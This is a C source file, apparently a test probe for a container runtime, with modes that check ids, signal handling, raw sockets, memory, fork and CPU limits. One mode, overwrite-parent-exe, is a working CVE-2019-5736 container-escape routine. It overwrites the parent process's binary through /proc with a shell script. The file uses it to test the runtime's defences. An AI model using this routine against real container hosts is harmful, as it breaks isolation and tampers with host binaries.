/*
 * A small static probe for jrun's tests, run inside containers.
 *   probe ids        prints "uid=U gid=G groups=A,B" (real ids and supplementary groups)
 *   probe signals    prints "ready", then on SIGINT/TERM/HUP/QUIT/USR1/USR2 prints
 *                    "signal N" and exits with status 100+N (it works as pid 1 too)
 *   probe raw-socket prints "ok" if a raw IPv4 socket opens (CAP_NET_RAW), else the errno's name
 *   probe alloc MB   allocates and touches MB mebibytes, printing each 8 MB reached, then "done"
 *   probe fork N     forks N children that sleep; prints "forked K" and, when a fork fails, its errno's name
 *   probe spin SECS  a busy loop for SECS seconds of wall time; prints the cpu seconds it got
 *   probe add-key    calls add_key(2) (no capability needed): prints "ok" or the errno's name
 *   probe overwrite-parent-exe RESULT
 *                    the CVE-2019-5736 attack on whatever binary the parent process runs: holds
 *                    /proc/PPID/exe open (O_PATH), kills the parent, reopens the file for
 *                    writing once it is no longer busy and writes to it; puts "overwritten" or
 *                    the step that failed and its errno's name into RESULT, then creates
 *                    RESULT.done
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <string.h>
#include <unistd.h>

static volatile sig_atomic_t got;

static const char *errno_name(int e)
{
    switch (e) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ETXTBSY: return "ETXTBSY";
    case ENOENT: return "ENOENT";
    case EROFS: return "EROFS";
    case ESRCH: return "ESRCH";
    default: return "other";
    }
}

static int overwrite_parent_exe(const char *result)
{
    char path[64], out[128];
    pid_t parent = getppid();
    snprintf(path, sizeof(path), "/proc/%d/exe", (int)parent);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        snprintf(out, sizeof(out), "open %s: %s\n", path, errno_name(errno));
    } else {
        kill(parent, SIGKILL);
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        int w = -1;
        for (int i = 0; i < 500; i++) { /* busy (ETXTBSY) until the parent's memory is gone */
            w = open(path, O_WRONLY | O_CLOEXEC);
            if (w >= 0 || errno != ETXTBSY)
                break;
            usleep(10000);
        }
        if (w < 0)
            snprintf(out, sizeof(out), "open for writing: %s\n", errno_name(errno));
        else if (write(w, "#!/bin/sh\necho pwned\n", 21) != 21)
            snprintf(out, sizeof(out), "write: %s\n", errno_name(errno));
        else
            snprintf(out, sizeof(out), "overwritten\n");
    }
    FILE *f = fopen(result, "w");
    if (!f)
        return 1;
    fputs(out, f);
    fclose(f);
    snprintf(path, sizeof(path), "%s.done", result);
    f = fopen(path, "w");
    if (f)
        fclose(f);
    return 0;
}

static void on_signal(int sig) { got = sig; }

int main(int argc, char **argv)
{
    if (argc > 1 && !strcmp(argv[1], "ids")) {
        gid_t groups[256];
        int n = getgroups(256, groups);
        printf("uid=%u gid=%u groups=", (unsigned)getuid(), (unsigned)getgid());
        for (int i = 0; i < n; i++)
            printf("%s%u", i ? "," : "", (unsigned)groups[i]);
        printf("\n");
        return 0;
    }
    if (argc > 1 && !strcmp(argv[1], "signals")) {
        int sigs[] = { SIGINT, SIGTERM, SIGHUP, SIGQUIT, SIGUSR1, SIGUSR2 };
        for (unsigned i = 0; i < sizeof(sigs) / sizeof(sigs[0]); i++)
            signal(sigs[i], on_signal);
        printf("ready\n");
        fflush(stdout);
        while (!got)
            pause();
        printf("signal %d\n", (int)got);
        fflush(stdout);
        return 100 + got;
    }
    if (argc > 1 && !strcmp(argv[1], "raw-socket")) {
        int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
        printf("%s\n", fd >= 0 ? "ok" : errno == EPERM ? "EPERM" : errno == EACCES ? "EACCES" : "other");
        return 0;
    }
    if (argc > 2 && !strcmp(argv[1], "alloc")) {
        long mb = atol(argv[2]);
        for (long i = 0; i < mb; i++) {
            char *p = malloc(1 << 20);
            if (!p) {
                printf("malloc failed at %ld MB\n", i);
                return 1;
            }
            memset(p, 1, 1 << 20);
            if (i % 8 == 7) {
                printf("%ld MB\n", i + 1);
                fflush(stdout);
            }
        }
        printf("done\n");
        return 0;
    }
    if (argc > 2 && !strcmp(argv[1], "fork")) {
        int n = atoi(argv[2]), k = 0;
        for (; k < n; k++) {
            pid_t p = fork();
            if (p == 0) {
                sleep(30);
                _exit(0);
            }
            if (p < 0) {
                printf("forked %d\n%s\n", k, errno == EAGAIN ? "EAGAIN" : "other");
                return 0;
            }
        }
        printf("forked %d\n", k);
        return 0;
    }
    if (argc > 2 && !strcmp(argv[1], "spin")) {
        struct timespec start, now;
        double secs = atof(argv[2]);
        clock_gettime(CLOCK_MONOTONIC, &start);
        do {
            for (volatile int i = 0; i < 100000; i++)
                ;
            clock_gettime(CLOCK_MONOTONIC, &now);
        } while ((now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9 < secs);
        struct timespec cpu;
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &cpu);
        printf("%.3f\n", cpu.tv_sec + cpu.tv_nsec / 1e9);
        return 0;
    }
    if (argc > 1 && !strcmp(argv[1], "add-key")) {
        long r = syscall(SYS_add_key, "user", "jrun-probe", "x", 1, -2 /* KEY_SPEC_PROCESS_KEYRING */);
        printf("%s\n", r >= 0 ? "ok" : errno == EPERM ? "EPERM" : errno == ENOSYS ? "ENOSYS" : "other");
        return 0;
    }
    if (argc > 2 && !strcmp(argv[1], "overwrite-parent-exe"))
        return overwrite_parent_exe(argv[2]);
    fprintf(stderr, "usage: probe ids|signals|raw-socket|alloc MB|fork N|spin SECS|add-key|overwrite-parent-exe RESULT\n");
    return 2;
}
